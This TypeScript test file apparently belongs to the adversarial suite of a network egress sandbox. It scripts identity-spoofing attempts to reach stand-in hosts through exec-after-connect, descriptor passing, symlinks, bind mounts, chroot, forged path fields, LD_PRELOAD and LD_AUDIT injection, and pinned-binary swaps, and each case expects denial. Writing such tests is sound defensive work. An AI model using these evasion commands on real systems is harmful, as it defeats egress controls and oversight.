/** Threat: a program speaks to the network in the name of another one. */
import { calls, groupOf, node, sh } from "../attack.ts";
import type { Case } from "../model.ts";
import { under } from "../reload.ts";
import { all, neverPrints, nothingAnywhere, nothingReached, prints, recorded, serverGot } from "../witness.ts";

const attack = groupOf("identity", ["egress", "identity"]);
const held = { promise: "identity-recorded", expect: nothingReached("raw") };
const RAW = "raw.creel.example 7000";
const ask = (program: string) =>
  `"${program}" --input-type=module -e 'const https = await import("node:https"); https.get("https://api.creel.example/v1/copied", (r) => { console.log(r.statusCode); process.exit(0); }).on("error", (e) => console.log(e.code))'`;

const spoofs: Case[] = [
  attack("id-other-program", "another program connects where only one may", {
    ...held,
    program: calls(`calls connect ${RAW} hello`),
    expect: all(nothingReached("raw"), recorded({ decision: "deny", host: "raw.creel.example" })),
  }),
  attack("id-connect-exec", "connects, then becomes the trusted program with the connection open", {
    ...held,
    program: calls(`calls spoof_exec ${RAW} "$TOOLS/trusted"`),
  }),
  attack("id-connect-exec-nonblock", "the same without waiting for the connection", {
    ...held,
    program: calls(`calls spoof_nonblock ${RAW} "$TOOLS/trusted"`),
  }),
  attack("id-connect-fork-exec", "a child of the one that connected becomes the trusted program", {
    ...held,
    program: calls(`calls spoof_fork ${RAW} "$TOOLS/trusted"`),
  }),
  attack("id-pass-descriptor", "passes an open connection to the trusted program over a Unix socket", {
    ...held,
    program: calls(`calls spoof_pass ${RAW} "$TOOLS/trusted"`),
  }),
  attack("id-thread-race", "one thread connects while another becomes the trusted program, twenty times", {
    ...held,
    program: calls(`calls spoof_race ${RAW} "$TOOLS/trusted"`),
  }),
  attack("id-descriptor-swap", "swaps the descriptor while connect() is being looked at", {
    ...held,
    program: calls(`calls spoof_swap ${RAW}`),
  }),
  attack("id-deferred-open", "defers its connection until it is the trusted program, by TCP_FASTOPEN_CONNECT", {
    ...held,
    program: calls(`calls deferred_fast_open ${RAW} "$TOOLS/trusted"`),
  }),
  attack("id-reconnect", "connects one socket again after taking it apart", {
    ...held,
    program: calls(`calls unspec_reconnect ${RAW}`),
  }),
  attack("id-argv-zero", "calls itself by the trusted program's name in argv[0]", {
    ...held,
    program: calls(`calls argv_zero ${RAW} "$TOOLS/trusted"`),
  }),
  attack("id-comm", "takes the trusted program's name as its thread name", {
    ...held,
    program: calls(`calls set_name ${RAW} trusted`),
  }),
  attack("id-memfd", "runs from memory, where no path is", {
    ...held,
    program: calls(`calls memfd_exec ${RAW} "$TOOLS/trusted"`),
  }),
  attack("id-deleted", "deletes its own file before it connects", {
    ...held,
    program: sh(
      `cp "$TOOLS/calls" /tmp/trusted; /tmp/trusted deleted ${RAW}; cp "$TOOLS/calls" "/tmp/trusted (deleted)"; "/tmp/trusted (deleted)" deleted ${RAW}`,
    ),
  }),
  attack("id-newline", "puts line breaks and forged fields into its path", {
    ...held,
    program: sh(
      `d="$WORK/$(printf 'x\\n/opt/tools/trusted\\nTgid:\\t1')"; mkdir -p "$d"; cp "$TOOLS/calls" "$d/trusted"; "$d/trusted" connect ${RAW} hello; rm -rf "$d"`,
    ),
  }),
  attack("id-copy", "copies the trusted program and runs the copy", {
    ...held,
    program: sh(`cp "$TOOLS/trusted" "$WORK/trusted"; "$WORK/trusted" connect ${RAW} hello; rm "$WORK/trusted"`),
  }),
  attack("id-symlink", "runs another program by a link with the trusted one's name", {
    ...held,
    program: sh(`ln -sf "$TOOLS/calls" "$WORK/trusted"; "$WORK/trusted" connect ${RAW} hello; rm "$WORK/trusted"`),
  }),
  attack("id-hardlink", "makes a hard link to a program under another name", {
    ...held,
    program: sh(
      `ln "$TOOLS/trusted" "$WORK/linked" && "$WORK/linked" connect ${RAW} hello; cp "$TOOLS/calls" "$WORK/a"; ln "$WORK/a" "$WORK/b"; "$WORK/b" connect ${RAW} hello; rm -f "$WORK/a" "$WORK/b" "$WORK/linked"`,
    ),
  }),
  attack("id-overlay-path", "makes a folder of its own look like the trusted program's by a mount", {
    ...held,
    program: sh(
      `mkdir -p "$WORK/t"; cp "$TOOLS/calls" "$WORK/t/trusted"; mount --bind "$WORK/t" "$TOOLS" 2>/dev/null; unshare -Urm sh -c 'mount --bind "$WORK/t" "$TOOLS" && "$TOOLS/trusted" connect ${RAW} hello' 2>/dev/null; "$WORK/t/trusted" connect ${RAW} hello; rm -r "$WORK/t"`,
    ),
  }),
  attack("id-chroot", "runs in a root of its own where its path is the trusted one", {
    ...held,
    program: sh(
      `mkdir -p "$WORK/r/opt/tools"; cp "$TOOLS/calls" "$WORK/r/opt/tools/trusted"; chroot "$WORK/r" /opt/tools/trusted connect ${RAW} hello 2>/dev/null; unshare -Ur chroot "$WORK/r" /opt/tools/trusted connect ${RAW} hello 2>/dev/null; rm -r "$WORK/r"; echo tried`,
    ),
  }),
  attack("id-loader", "starts another program by the loader, and the trusted one too", {
    ...held,
    program: sh(
      `for l in /lib64/ld-linux*.so.2 /lib/ld-linux*.so.1; do [ -e "$l" ] && "$l" "$TOOLS/trusted" connect ${RAW} hello; done; echo tried`,
    ),
  }),
  attack("id-script-other", "an allowed interpreter runs another script than the one named", {
    ...held,
    promise: "script-is-not-program",
    program: node(`const r = await ask("https://" + host("scripted") + "/v1/x"); say(r.failed ?? r.status)`),
    expect: all(nothingReached("scripted"), recorded({ decision: "deny", host: "scripted.creel.example" })),
  }),
  attack(
    "id-script-inline",
    "an allowed interpreter runs a line instead of the script named, with the script's name as an argument",
    {
      ...held,
      promise: "script-is-not-program",
      program: sh(
        `"$NODE" --input-type=module -e 'const https = await import("node:https"); https.get("https://scripted.creel.example/v1/x", (r) => { console.log(r.statusCode); process.exit(0); }).on("error", (e) => console.log(e.code))' "$TOOLS/named.mjs"`,
      ),
      expect: nothingReached("scripted"),
    },
  ),
  attack("id-script-title", "a script writes the named script's path over its own command line", {
    ...held,
    promise: "script-is-not-program",
    program: node(
      `process.title = process.execPath + "\\0" + process.env.TOOLS + "/named.mjs"; say(fs.readFileSync("/proc/self/cmdline", "latin1")); const r = await ask("https://" + host("scripted") + "/v1/x"); say(r.failed ?? r.status)`,
    ),
    expect: nothingReached("scripted"),
  }),
  attack(
    "id-script-argv",
    "starts the interpreter so that the named script stands in its arguments but is not what runs",
    {
      ...held,
      promise: "script-is-not-program",
      program: sh(`cat > "$WORK/evil.mjs" <<'END'
import https from "node:https";
https.get("https://scripted.creel.example/v1/x", (r) => { console.log(r.statusCode); process.exit(0); }).on("error", (e) => { console.log(e.code); process.exit(0); });
END
"$NODE" "$WORK/evil.mjs" "$TOOLS/named.mjs"; cd "$WORK"; mkdir -p opt/tools; cp evil.mjs opt/tools/named.mjs; "$NODE" opt/tools/named.mjs; ln -sf "$WORK/evil.mjs" "$WORK/named.mjs"; "$NODE" named.mjs; rm -rf evil.mjs named.mjs opt`),
      expect: nothingReached("scripted"),
    },
  ),
  attack("id-proc-exe", "is started through /proc/PID/exe of the trusted program's sibling", {
    ...held,
    program: sh(`"$TOOLS/calls" pause_briefly & /proc/$!/exe connect ${RAW} hello; wait`),
  }),
  attack("id-child-of-trusted", "is a child of an allowed program, which does not inherit its rights", {
    ...held,
    program: node(
      `say(cp.spawnSync(process.env.TOOLS + "/calls", ["connect", "api.creel.example", "443", "GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n"]).stdout.toString())`,
    ),
    expect: all(nothingAnywhere, recorded({ decision: "deny", host: "api.creel.example" })),
  }),
];

const libraries: Case[] = [
  attack("id-preload", "makes the trusted program load a library of its own by LD_PRELOAD", {
    ...held,
    promise: "no-injection",
    program: sh(
      `cp "$TOOLS/preload.so" "$WORK/p.so"; PRELOAD_HOST=raw.creel.example PRELOAD_PORT=7000 LD_PRELOAD="$WORK/p.so" "$TOOLS/trusted" pause_briefly; rm "$WORK/p.so"`,
    ),
  }),
  attack("id-audit", "the same by LD_AUDIT", {
    ...held,
    promise: "no-injection",
    program: sh(
      `cp "$TOOLS/preload.so" /tmp/a.so; PRELOAD_HOST=raw.creel.example PRELOAD_PORT=7000 LD_AUDIT=/tmp/a.so "$TOOLS/trusted" pause_briefly; rm /tmp/a.so`,
    ),
  }),
  attack("id-preload-loader", "the same by the loader's own --preload", {
    ...held,
    promise: "no-injection",
    program: sh(
      `cp "$TOOLS/preload.so" /tmp/l.so; for l in /lib64/ld-linux*.so.2 /lib/ld-linux*.so.1; do [ -e "$l" ] && PRELOAD_HOST=raw.creel.example PRELOAD_PORT=7000 "$l" --preload /tmp/l.so "$TOOLS/trusted" pause_briefly; done; rm /tmp/l.so; echo tried`,
    ),
  }),
  attack("id-preload-deleted", "the same with a library that is deleted once it is loaded", {
    ...held,
    promise: "no-injection",
    program: sh(
      `cp "$TOOLS/preload.so" /dev/shm/d.so; (sleep 0.01; rm -f /dev/shm/d.so) & PRELOAD_HOST=raw.creel.example PRELOAD_PORT=7000 LD_PRELOAD=/dev/shm/d.so "$TOOLS/trusted" pause_briefly; wait; rm -f /dev/shm/d.so`,
    ),
  }),
  attack("id-preload-data", "lends the trusted program a library without any code in it, as a loader's tricks need", {
    ...held,
    promise: "no-injection",
    program: sh(
      `cp "$TOOLS/data.so" "$WORK/data.so"; LD_PRELOAD="$WORK/data.so" "$TOOLS/trusted" connect ${RAW} hello; rm "$WORK/data.so"`,
    ),
    expect: all(nothingReached("raw"), recorded({ decision: "deny", host: "raw.creel.example" })),
  }),
  attack("id-node-options", "makes the allowed interpreter load native code first, by NODE_OPTIONS", {
    promise: "no-injection",
    program: sh(
      `cp "$TOOLS/preload.so" "$WORK/n.node"; echo 'try { process.dlopen({ exports: {} }, process.env.WORK + "/n.node"); } catch {}' > "$WORK/first.cjs"; NODE_OPTIONS="--require $WORK/first.cjs" ${ask("$NODE")}; rm "$WORK/n.node" "$WORK/first.cjs"`,
    ),
    expect: all(nothingAnywhere, recorded({ decision: "deny", host: "api.creel.example" })),
  }),
  attack("id-nested-names", "is a trusted program in a sandbox whose programs may write into each other", {
    ...held,
    program: calls(`trusted connect ${RAW} hello`),
    run: under("sandbox: { nested_userns: true }\n"),
    expect: all(nothingReached("raw"), recorded({ decision: "deny", host: "raw.creel.example" })),
  }),
  attack("id-dlopen", "an allowed interpreter loads native code from the workspace, which then connects", {
    promise: "no-injection",
    program: node(
      `fs.copyFileSync(process.env.TOOLS + "/preload.so", process.env.WORK + "/n.node"); process.env.PRELOAD_HOST = host("api"); process.env.PRELOAD_PORT = "443"; try { process.dlopen({ exports: {} }, process.env.WORK + "/n.node"); } catch (e) { say(e.code); } const r = await ask("https://" + host("api") + "/v1/after-dlopen"); say(r.failed ?? r.status)`,
    ),
    expect: nothingAnywhere,
  }),
];

const pins: Case[] = [
  attack("id-pin-other", "a program at a pinned path with another content", {
    promise: "pins",
    program: sh(
      `cp "$TOOLS/node" "$WORK/pinned"; printf x >> "$WORK/pinned"; "$WORK/pinned" --input-type=module -e 'const https = await import("node:https"); https.get("https://pinned.creel.example/", (r) => { console.log(r.statusCode); process.exit(0); }).on("error", (e) => console.log(e.code))'; rm "$WORK/pinned"`,
    ),
    expect: nothingReached("pinned"),
  }),
  attack("id-pin-swap", "replaces a pinned program's content while it runs", {
    promise: "pins",
    program: sh(
      `cp "$TOOLS/node" "$WORK/pinned"; "$WORK/pinned" -e 'setTimeout(() => {}, 300)' & sleep 0.1; cp "$TOOLS/calls" "$WORK/new"; mv "$WORK/new" "$WORK/pinned"; "$WORK/pinned" connect pinned.creel.example 443 "$(printf 'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n.')"; wait; rm -f "$WORK/pinned"`,
    ),
    expect: nothingReached("pinned"),
  }),
  attack("id-copied-interpreter", "a copy of an allowed interpreter under another path", {
    promise: "identity-recorded",
    program: sh(`cp "$NODE" /tmp/node; ${ask("/tmp/node")}; rm /tmp/node`),
    expect: all(nothingReached("api"), prints(/^403$/m), recorded({ decision: "deny", host: "api.creel.example" })),
  }),
  attack("id-pin-honest", "control: the pinned content works under any path of its folder", {
    promise: "honest-work",
    control: true,
    program: sh(
      `cp "$TOOLS/node" "$WORK/any"; "$WORK/any" --input-type=module -e 'const https = await import("node:https"); https.get("https://pinned.creel.example/ok", (r) => { console.log(r.statusCode); process.exit(0); }).on("error", (e) => console.log(e.code))'; rm "$WORK/any"`,
    ),
    expect: all(prints(/^200$/m), serverGot("pinned", /GET \/ok/)),
  }),
  attack("id-hardlink-trusted-dir", "renames a folder of its own over the trusted one's", {
    promise: "programs-unwritable",
    program: sh(
      `mkdir -p "$WORK/tools"; cp "$TOOLS/calls" "$WORK/tools/trusted"; mv -T "$WORK/tools" "$TOOLS" 2>/dev/null && echo MOVED; mv "$TOOLS" "$WORK/old" 2>/dev/null && echo MOVED; rm -rf "$WORK/tools"; true`,
    ),
    expect: all(neverPrints(/MOVED/), nothingAnywhere),
  }),
];

export const identity: Case[] = [...spoofs, ...libraries, ...pins];
